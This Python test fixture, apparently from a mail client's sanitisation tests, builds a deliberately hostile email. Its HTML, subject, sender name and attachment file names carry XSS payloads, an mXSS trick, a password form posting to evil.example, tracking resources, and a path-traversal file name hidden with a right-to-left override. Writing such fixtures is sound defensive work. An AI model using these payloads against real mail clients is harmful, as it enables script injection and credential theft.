"""A hostile mail: every trick we know in its HTML, subject, display name and file names."""

from __future__ import annotations

from email.message import EmailMessage

from tests.world import mail

HOSTILE_HTML = """<html><head>
<meta http-equiv="refresh" content="0;url=http://evil.example/">
<base href="http://evil.example/">
<link rel="stylesheet" href="http://evil.example/x.css">
<style>body { background: url(http://evil.example/bg.png) }</style>
<script>window.__pwned = "script"</script>
</head><body onload="window.__pwned = 'onload'">
<p style="background:url(http://evil.example/p.png); width: expression(alert(1))">危険なメールの本文です</p>
<img src="http://evil.example/track.gif" onerror="window.__pwned = 'onerror'">
<img src="//evil.example/proto-relative.gif">
<img srcset="http://evil.example/srcset.gif 1x">
<a href="javascript:window.__pwned = 'href'">ここをクリック</a>
<a href="JaVaScRiPt:window.__pwned = 'mixed'">もう一度</a>
<a href="data:text/html,<script>alert(1)</script>">データ</a>
<svg><script>window.__pwned = "svg script"</script></svg>
<svg onload="window.__pwned = 'svg onload'"><image href="http://evil.example/i.png"/></svg>
<form action="http://evil.example/steal" method="post"><input name="password"><button>送信</button></form>
<iframe src="http://evil.example/frame"></iframe>
<object data="http://evil.example/x.swf"></object>
<embed src="http://evil.example/x.swf">
<video src="http://evil.example/v.mp4" poster="http://evil.example/poster.png"></video>
<math><mtext><table><mglyph><style><img src=x onerror="window.__pwned = 'mxss'"></style></mglyph></table></mtext></math>
<table background="http://evil.example/tbl.png"><tr><td>表</td></tr></table>
<a href="https://www.pref.yamakawa.lg.jp/">正当なリンク</a>
</body></html>"""

HOSTILE_SUBJECT = "<script>window.__pwned='subject'</script>件名<img src=x onerror=\"window.__pwned='subj-img'\">"
HOSTILE_NAME = "<img src=x onerror=\"window.__pwned='name'\">伊藤"
SVG = b'<svg xmlns="http://www.w3.org/2000/svg" onload="window.__pwned=\'svgfile\'"><script>window.__pwned=1</script></svg>'


def hostile_mail() -> EmailMessage:
    msg = mail("ito-s@town.wakaba.lg.jp", HOSTILE_SUBJECT,
               "テキスト版 javascript:alert(1) <script>window.__pwned='text'</script>\n", hours_ago=0.5,
               message_id="<hostile@town.wakaba.lg.jp>")
    msg.replace_header("From", f'"{HOSTILE_NAME}" <ito-s@town.wakaba.lg.jp>')
    msg.add_alternative(HOSTILE_HTML, subtype="html")
    msg.add_attachment(SVG, maintype="image", subtype="svg+xml", filename='"><img src=x onerror=alert(1)>.svg')
    msg.add_attachment(b"<script>window.__pwned='html file'</script>", maintype="text", subtype="html",
                       filename="../../etc/passwd\u202egpj.html")
    return msg
